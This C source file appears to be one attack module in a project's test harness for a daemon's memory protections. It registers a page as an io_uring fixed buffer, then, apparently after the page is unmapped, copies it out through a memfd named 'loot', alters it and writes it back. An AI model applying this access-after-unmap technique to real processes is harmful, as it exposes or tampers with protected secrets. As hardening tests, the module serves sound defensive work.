/* SPDX-License-Identifier: LGPL-2.1-or-later */
/* A page is a registered buffer of an io_uring: the kernel reads and writes it as it is told. */
#include <fcntl.h>
#include <string.h>
#include <sys/mman.h>
#include <unistd.h>

#include "../../daemon/base/scoped.h"
#include "attack.h"
#include "uring.h"

#define PIECE_BYTES 4096

static struct uring uring;
static char *registered; /* where it was mapped; by now nothing is */

static enum armed arm(struct hold *hold)
{
	uring_open(&uring);
	must(uring_register_buffer(&uring, hold->address, PIECE_BYTES) == 0);
	registered = hold->address;
	return ARMED;
}

/* Between the buffer and a file of ours: @opcode is READ_FIXED (into the buffer) or WRITE_FIXED. */
static void carry(unsigned char opcode, int fd)
{
	struct io_uring_sqe entry = {
		.opcode = opcode, .fd = fd, .addr = (uintptr_t) registered, .len = PIECE_BYTES
	};

	must(uring_do(&uring, &entry) == PIECE_BYTES);
}

static unsigned strike(struct hold *hold)
{
	scoped(fd_closep) int fd = memfd_create("loot", MFD_CLOEXEC);
	uint64_t words[PIECE_BYTES / sizeof(uint64_t)];
	unsigned found;

	(void) hold;
	must(fd >= 0 && ftruncate(fd, PIECE_BYTES) == 0);
	carry(IORING_OP_WRITE_FIXED, fd);
	must(pread(fd, words, sizeof(words), 0) == sizeof(words));
	found = attack_bytes(words, sizeof(words));
	must(pwrite(fd, words, sizeof(words), 0) == sizeof(words));
	carry(IORING_OP_READ_FIXED, fd);
	return found;
}

static void let_go(struct hold *hold)
{
	(void) hold;
	uring_close(&uring);
}

int main(int argc, char **argv)
{
	static const struct attack attack = { .name = "uring-buffer",
		                              .arm = arm,
		                              .strike = strike,
		                              .let_go = let_go,
		                              .why_not = uring_why_not,
		                              .is_hidden = true,
		                              .has_pages = true };

	return attack_main(&attack, argc, argv);
}
